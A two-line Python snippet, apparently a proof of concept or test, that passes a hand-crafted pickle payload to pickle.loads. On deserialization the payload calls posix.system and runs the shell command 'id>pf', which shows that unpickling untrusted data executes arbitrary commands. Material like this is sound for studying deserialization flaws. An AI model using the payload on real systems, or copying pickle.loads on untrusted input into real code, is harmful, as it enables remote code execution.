import pickle
pickle.loads(b"cposix\nsystem\n(S'id>pf'\ntR.")
